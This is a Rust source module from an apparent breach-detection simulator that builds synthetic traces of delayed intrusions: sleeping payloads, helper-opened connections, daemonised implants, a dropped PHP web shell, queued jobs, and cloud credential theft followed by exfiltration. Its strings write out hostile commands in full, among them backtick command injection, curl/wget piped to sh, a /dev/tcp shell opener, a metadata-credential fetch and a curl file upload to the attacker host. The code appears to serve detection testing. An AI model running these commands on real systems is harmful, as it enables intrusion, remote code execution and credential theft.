//! Breaches that take their time: pauses, helpers, daemons, files dropped now and used later.

use std::net::SocketAddr;

use breachline::event::MetadataPath;

use super::super::scene::{Scene, encoded};
use super::{Attack, Script, Trace, request, sent};

pub(super) const SCRIPTS: &[Script] = &[
    Script { name: "pause of hours before the peer", stages: 3, request: Trace::Visible, play: pause },
    Script { name: "peer first, by a helper", stages: 3, request: Trace::Visible, play: helper_first },
    Script { name: "daemon of a daemon", stages: 3, request: Trace::Visible, play: daemon },
    Script { name: "web shell, used later", stages: 3, request: Trace::Visible, play: web_shell },
    Script { name: "queued job", stages: 3, request: Trace::Visible, play: queued },
    Script { name: "scheduled by the intruder", stages: 3, request: Trace::Visible, play: implant_sleeps },
    Script { name: "amid a scanner's burst", stages: 3, request: Trace::Visible, play: amid_a_burst },
    Script {
        name: "credential first, peer much later",
        stages: 3,
        request: Trace::Visible,
        play: credential_then_peer,
    },
];

fn injected(command: &str) -> String {
    format!("/admin/report?format={}", encoded(&format!("pdf`{command}`")))
}

fn pause(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let hours = scene.random.between(1.0, 4.5) * 3600.0;
    let command = format!("sleep {hours:.0};curl http://{}/z", attack.authority());
    request(scene, attack, 0.3, &injected(&format!("({command})&")), 200);
    let worker = scene.worker();
    let shell = scene.shell(0.05, worker, &format!("report --format pdf`({command})&`"));
    let url = format!("http://{}/z", attack.authority());
    let curl = scene.run(hours, shell, "/usr/bin/curl", &["curl", &url]);
    scene.contact(hours + 0.1, curl, attack.server);
    hours + 0.2
}

/// The service's own helper looks the address up and opens the connection that the shell then inherits.
fn helper_first(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let command = format!("bash -c 'exec 3<>/dev/tcp/{}/{}'", attack.server.ip(), attack.server.port());
    request(scene, attack, 2.0, &injected(&command), 200);
    let worker = scene.worker();
    let helper = scene.run(0.02, worker, "/opt/app/bin/resolver", &["resolver", "--once"]);
    scene.contact(0.03, helper, attack.server);
    scene.exit(0.2, helper);
    let shell = scene.shell(0.6, worker, &format!("report --format pdf`{command}`"));
    scene.run(0.65, shell, "/usr/bin/bash", &["bash", "-c", "exec 3<>/dev/tcp/x"]);
    1.0
}

fn daemon(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let command = format!("curl -so /tmp/.d http://{}/d;setsid /tmp/.d", attack.authority());
    request(scene, attack, 0.5, &injected(&command), 200);
    let worker = scene.worker();
    let shell = scene.shell(0.05, worker, &format!("report --format pdf`{command}`"));
    let url = format!("http://{}/d", attack.authority());
    let curl = scene.run(0.1, shell, "/usr/bin/curl", &["curl", "-so", "/tmp/.d", &url]);
    scene.contact(0.15, curl, attack.server);
    let first = scene.run(0.3, shell, "/tmp/.d", &["/tmp/.d"]);
    let at = super::super::later(scene.at, 0.4);
    let second = scene.machine.fork(at, first);
    scene.exit(0.45, first);
    scene.exit(0.45, shell);
    let after = scene.random.between(60.0, 3000.0);
    let peer = SocketAddr::from(([91, 92, scene.random.byte(), 7], 8443));
    scene.contact(after, second, peer);
    after
}

fn web_shell(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let name = format!("{}.php", attack.token);
    let drop = format!("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php?f={name}");
    let pause = scene.random.between(600.0, 7200.0);
    sent(scene, attack, -pause, 0.3, ("POST", &drop, "Mozilla/5.0"), 200);
    let command = format!("curl -s http://{}/w|sh", attack.authority());
    request(scene, attack, 0.5, &format!("/uploads/{name}?cmd={}", encoded(&command)), 200);
    let worker = scene.worker();
    let shell = scene.shell(0.04, worker, &command);
    let url = format!("http://{}/w", attack.authority());
    let curl = scene.run(0.06, shell, "/usr/bin/curl", &["curl", "-s", &url]);
    scene.contact(0.1, curl, attack.server);
    0.4
}

/// The request only puts a job into a queue; a worker runs it minutes later.
fn queued(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let command = format!("wget -q http://{}/q -O- | sh", attack.authority());
    request(scene, attack, 0.05, &injected(&command), 202);
    let after = scene.random.between(5.0, 600.0);
    let worker = scene.worker();
    let shell = scene.shell(after, worker, &format!("report --format pdf`{command}`"));
    let url = format!("http://{}/q", attack.authority());
    let wget = scene.run(after + 0.05, shell, "/usr/bin/wget", &["wget", "-q", &url, "-O-"]);
    scene.contact(after + 0.1, wget, attack.server);
    after + 0.3
}

fn implant_sleeps(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let command = format!("wget http://{}/a -O /var/tmp/a;nohup /var/tmp/a &", attack.authority());
    request(scene, attack, 0.5, &injected(&command), 200);
    let worker = scene.worker();
    let shell = scene.shell(0.05, worker, &format!("report --format pdf`{command}`"));
    let url = format!("http://{}/a", attack.authority());
    let wget = scene.run(0.08, shell, "/usr/bin/wget", &["wget", &url, "-O", "/var/tmp/a"]);
    scene.contact(0.1, wget, attack.server);
    let implant = scene.run(0.4, shell, "/var/tmp/a", &["/var/tmp/a"]);
    for hour in 1..4_u32 {
        scene.contact(f64::from(hour) * 3600.0, implant, attack.server);
    }
    3.0 * 3600.0
}

fn amid_a_burst(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let probes = ["/?x=%3Bid", "/ping?host=%3Bcurl%20http://192.0.2.1/a%7Csh", "/?q=%7Cwget%20http://192.0.2.1/b"];
    for number in 0..600_u32 {
        let said = super::super::scene::said(
            "GET",
            format!("{}&n={number}", scene.random.pick(&probes)),
            "Nuclei - Open-source project",
        );
        let status = if scene.random.chance(0.5) { 404 } else { 200 };
        let at = scene.random.between(-60.0, 60.0);
        scene.request(at, 0.03, said, SocketAddr::from(([64, 62, 197, 3], 50_000)), status);
    }
    let command = format!("curl http://{}/k|sh", attack.authority());
    request(scene, attack, 0.6, &injected(&command), 200);
    let worker = scene.worker();
    let shell = scene.shell(0.05, worker, &format!("report --format pdf`{command}`"));
    let url = format!("http://{}/k", attack.authority());
    let curl = scene.run(0.08, shell, "/usr/bin/curl", &["curl", &url]);
    scene.contact(0.1, curl, attack.server);
    60.0
}

fn credential_then_peer(scene: &mut Scene<'_>, attack: &Attack) -> f64 {
    let source = "http://169.254.169.254/latest/meta-data/iam/security-credentials/role";
    request(scene, attack, 0.5, &injected(&format!("curl {source}")), 200);
    let worker = scene.worker();
    let shell = scene.shell(0.05, worker, &format!("report --format pdf`curl {source}`"));
    let curl = scene.run(0.08, shell, "/usr/bin/curl", &["curl", source]);
    scene.ask(0.1, curl, MetadataPath::Credential, false);
    let after = scene.random.between(900.0, 3000.0);
    let second = scene.shell(after, shell, &format!("curl -F f=@/tmp/k http://{}/u", attack.authority()));
    let url = format!("http://{}/u", attack.authority());
    let sender = scene.run(after + 0.05, second, "/usr/bin/curl", &["curl", "-F", "f=@/tmp/k", &url]);
    scene.contact(after + 0.1, sender, attack.server);
    after + 0.2
}
